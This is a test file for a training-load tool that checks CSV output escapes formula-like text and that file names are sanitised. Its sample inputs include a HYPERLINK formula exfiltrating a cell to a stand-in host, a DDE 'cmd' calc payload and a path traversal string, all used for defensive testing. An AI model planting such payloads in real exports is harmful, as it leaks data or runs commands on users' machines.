"""Formula-like text is escaped in every CSV kneeload writes, numbers never (issue 10, 8)."""

import io
import zipfile

import numpy as np
import pandas as pd
import pytest

from analysis.cli import main
from analysis.safetext import file_stem, spreadsheet_cell, spreadsheet_safe
from analysis.synth import gpx_bytes, synth_run

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+49 170 1234", "'+49 170 1234"), ("-2+3+cmd|' /C calc'!A0",
                                                             "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Sam", "Sam"), ("a=b", "a=b"), ("", ""),
    ("-3.5", "-3.5"), ("+12", "+12"), ("-1e3", "-1e3"),  # numbers written as text: kept
    (-3.5, -3.5), (7, 7), (None, None),
])
def test_a_cell_is_escaped_as_owasp_says_and_numbers_are_kept(value, written):
    assert spreadsheet_cell(value) == written


def test_a_frame_keeps_its_numbers_and_missing_values():
    frame = pd.DataFrame({"name": ["=x", None, "ok"], "offset": [-60.0, np.nan, 0.0],
                          "note": pd.array(["@y", pd.NA, "-1"], dtype="string")})
    safe = spreadsheet_safe(frame)
    assert safe["name"].fillna("missing").tolist() == ["'=x", "missing", "ok"]
    assert safe["offset"].equals(frame["offset"])
    assert safe["note"].fillna("missing").tolist() == ["'@y", "missing", "-1"]
    assert frame["name"].iloc[0] == "=x"  # the original is left alone


@pytest.fixture
def db(tmp_path):
    """A store holding one run named like a formula, an athlete and a pain note likewise."""
    url = f"sqlite:///{tmp_path / 'k.db'}"
    run = synth_run(np.random.default_rng(1), "2024-06-01 07:00", duration_s=600,
                    name=FORMULA)
    (tmp_path / "run.gpx").write_bytes(gpx_bytes(run))
    assert main(["ingest", str(tmp_path / "run.gpx"), "--db", url, "--athlete", "=cmd"]) == 0
    assert main(["pain", "add", "--score", "3", "--date", "2024-06-01", "--note", "@SUM(A1)",
                 "--athlete", "=cmd", "--db", url]) == 0
    return url


def cli_csv(capsys, *argv: str) -> pd.DataFrame:
    capsys.readouterr()
    assert main(list(argv)) == 0
    return pd.read_csv(io.StringIO(capsys.readouterr().out), keep_default_na=False)


def test_every_cli_csv_is_escaped(db, capsys):
    activities = cli_csv(capsys, "activities", "--athlete", "=cmd", "--db", db)
    assert activities["name"].tolist() == ["'" + FORMULA]
    assert activities["distance_m"].dtype == float and activities["distance_m"].iloc[0] > 0
    athletes = cli_csv(capsys, "athletes", "--db", db)
    assert athletes["name"].tolist() == ["'=cmd"]
    pain = cli_csv(capsys, "pain", "export", "--athlete", "=cmd", "--db", db)
    assert pain["note"].tolist() == ["'@SUM(A1)"] and pain["score"].tolist() == [3]


def test_the_athlete_export_zip_is_escaped_in_csv_not_in_parquet(db, tmp_path, capsys):
    out = tmp_path / "out.zip"
    assert main(["athlete", "export", "=cmd", str(out), "--db", db]) == 0
    with zipfile.ZipFile(out) as archive:
        csv = pd.read_csv(archive.open("activities.csv"))
        parquet = pd.read_parquet(io.BytesIO(archive.read("activities.parquet")))
        pain = pd.read_csv(archive.open("pain.csv"))
    assert csv["name"].tolist() == ["'" + FORMULA]
    assert parquet["name"].tolist() == [FORMULA]  # typed data: kept exactly
    assert pain["note"].tolist() == ["'@SUM(A1)"]


@pytest.mark.parametrize(("name", "stem"), [
    ("Bea (demo)", "Bea-demo"), ("Zoë O'Neil", "Zoë-O-Neil"), ("../../etc", "etc"),
    ("   ", "athlete"), ("a/b\\c.d", "a-b-c.d")])
def test_a_name_in_a_file_name(name, stem):
    assert file_stem(name) == stem
